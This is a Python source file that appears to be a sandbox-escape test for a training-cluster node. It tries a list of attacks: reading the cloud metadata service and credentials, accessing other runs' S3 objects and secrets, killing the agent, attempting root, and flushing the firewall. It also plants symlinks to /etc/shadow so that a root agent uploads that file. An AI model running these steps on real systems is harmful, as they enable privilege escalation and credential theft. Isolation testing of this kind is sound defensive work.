"""A job that tries to leave its sandbox on a booted node. Its findings become a file in the results of its run.

Each attack is a function that raises an error if it is refused, and returns what it has reached otherwise.
"""

import json
import os
import pwd
import signal
import socket
import subprocess
import sys
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

import boto3
from botocore.config import Config

BASE = Path("/opt/trainyard")
REGION, RUN = os.environ.get("AWS_REGION", ""), os.environ.get("TRAINYARD_RUN", "")
CONFIG = Config(retries={"total_max_attempts": 1}, connect_timeout=5, read_timeout=20)
Attack = Callable[[], Any]


def manifest() -> dict[str, Any]:
    content: dict[str, Any] = json.loads((BASE / "manifest.json").read_text())
    return content


def aws(service: str) -> Any:
    return boto3.client(service, region_name=REGION, config=CONFIG)


def put(bucket: str, key: str) -> Any:
    return aws("s3").put_object(Bucket=manifest()[bucket], Key=key, Body=b"{}")


def get(bucket: str, key: str) -> Any:
    return aws("s3").get_object(Bucket=manifest()[bucket], Key=key)["Body"].read()


def group_call(name: str, **options: Any) -> Any:
    group = manifest()["groups"][0]
    return getattr(aws("autoscaling"), name)(AutoScalingGroupName=group["autoscaling_group"], **options)


def hook_call(name: str, **options: Any) -> Any:
    hook = manifest()["groups"][0]["lifecycle_hook"]
    return group_call(name, LifecycleHookName=hook, InstanceId="i-0123456789abcdef0", **options)


def metadata_service() -> Any:
    with socket.create_connection(("169.254.169.254", 80), 5) as connection:
        return connection.getpeername()


def run_program(*command: str) -> Any:
    return subprocess.run(command, check=True, capture_output=True, text=True, timeout=30).stdout


def agent_process() -> int:
    for entry in Path("/proc").glob("[0-9]*/cmdline"):
        if entry.read_bytes().split(b"\0")[1:3] == [b"-m", b"trainyard.node.agent"]:
            return int(entry.parent.name)
    raise AssertionError("the agent does not run")


def credentials_without_token() -> Any:
    with urllib.request.urlopen(os.environ["AWS_CONTAINER_CREDENTIALS_FULL_URI"], timeout=5) as response:
        return response.read()


def scheduled_action() -> Any:
    name, limits = "trainyard-lease", {"MinSize": 0, "MaxSize": 100, "DesiredCapacity": 100}
    return group_call("put_scheduled_update_group_action", ScheduledActionName=name, **limits)


ATTACKS: dict[str, Attack] = {
    "metadata service": metadata_service,
    "credentials without the token": credentials_without_token,
    "role of the node": lambda: aws("sts").assume_role(RoleArn=manifest()["job_role_arn"], RoleSessionName="again"),
    "read another run": lambda: get("data_bucket", "runs/20260101-000000-other-0000/checkpoints/step-1/.metadata"),
    "write another run": lambda: put("data_bucket", "runs/20260101-000000-other-0000/checkpoints/step-1/.metadata"),
    "write the newest run": lambda: put("data_bucket", "runs/99999999-999999-newest-0000/run.json"),
    "write the run record": lambda: put("data_bucket", f"runs/{RUN}/run.json"),
    "write control objects": lambda: put("data_bucket", f"runs/{RUN}/control.json"),
    "write the outcome": lambda: put("data_bucket", f"runs/{RUN}/outcome.json"),
    "write events of a node": lambda: put("data_bucket", f"runs/{RUN}/events/i-1/0001/agent-00000099.jsonl"),
    "read the manifest": lambda: get("staging_bucket", "manifest.json"),
    "write the manifest": lambda: put("staging_bucket", "manifest.json"),
    "write the current run": lambda: put("staging_bucket", "run.json"),
    "read the token of the controller": lambda: get("staging_bucket", "head/controller.json"),
    "write a dataset": lambda: put("data_bucket", "datasets/d/1"),
    "prolong the lease": scheduled_action,
    "add nodes": lambda: group_call("set_desired_capacity", DesiredCapacity=2),
    "complete the hook of another node": lambda: hook_call(
        "complete_lifecycle_action", LifecycleActionResult="CONTINUE"
    ),
    "prolong the hook of another node": lambda: hook_call("record_lifecycle_action_heartbeat"),
    "terminate a node": lambda: aws("ec2").terminate_instances(InstanceIds=["i-0123456789abcdef0"]),
    "read a secret": lambda: aws("ssm").get_parameter(Name="/team/token", WithDecryption=True),
    "change the bundle": lambda: (BASE / "current/trainer/__init__.py").write_text(""),
    "change the node's environment": lambda: Path(sys.prefix, "hostile.pth").write_text("import os"),
    "change a service": lambda: Path("/etc/systemd/system/trainyard-job.service").write_text(""),
    "read the agent's state": (BASE / "runs" / RUN / "agent.json").read_text,
    "read the agent's environment": lambda: Path(f"/proc/{agent_process()}/environ").read_bytes(),
    "read the agent's memory": lambda: Path(f"/proc/{agent_process()}/mem").open("rb").close(),
    "stop the agent": lambda: os.kill(agent_process(), signal.SIGKILL),
    "stop its service": lambda: run_program("systemctl", "stop", "trainyard-job.service"),
    "become root": lambda: os.setuid(0),
    "become root with sudo": lambda: run_program("sudo", "-n", "true"),
    "a user namespace": lambda: run_program("unshare", "--user", "--map-root-user", "true"),
    "change the packet filter": lambda: run_program("nft", "flush", "ruleset"),
}


def try_attacks() -> dict[str, str]:
    outcomes = {}
    for name, attack in ATTACKS.items():
        try:
            outcomes[name] = f"allowed: {attack()!r}"
        except Exception as error:
            outcomes[name] = f"refused: {type(error).__name__}: {error}"
    return outcomes


def replace_files_by_links() -> None:
    """Let the agent, which is root and copies logs to S3, find links to files that the job cannot read."""
    metrics = Path(os.environ["METRICS_DIR"])
    for name, target in (
        ("metrics.jsonl", BASE / "runs" / RUN / "agent.json"),
        (f"progress-{os.environ['RANK']}.json", Path("/etc/shadow")),
    ):
        (metrics / name).unlink(missing_ok=True)
        (metrics / name).symlink_to(target)
    log = Path("/proc/self/fd/1").readlink()
    log.unlink()
    log.symlink_to("/etc/shadow")


def main() -> None:
    if not (BASE / "node.json").exists():  # a dry run on the computer of the operator
        return
    replace_files_by_links()
    user = pwd.getpwuid(os.getuid()).pw_name
    for folder in (Path.cwd(), Path.home(), Path("/tmp"), Path(os.environ["TRAINYARD_CACHE"])):
        (folder / "written").touch()  # what a job may do
    bucket, _, prefix = os.environ["RESULTS_URI"].removeprefix("s3://").partition("/")
    checkpoint = os.environ["CHECKPOINT_URI"].removeprefix(f"s3://{bucket}/")
    aws("s3").put_object(Bucket=bucket, Key=f"{checkpoint}step-1/.metadata", Body=b"")
    findings = {"user": user, "attacks": try_attacks()}
    body = json.dumps(findings, indent=1).encode()
    aws("s3").put_object(Bucket=bucket, Key=f"{prefix}findings-{os.environ['RANK']}.json", Body=body)


if __name__ == "__main__":
    main()
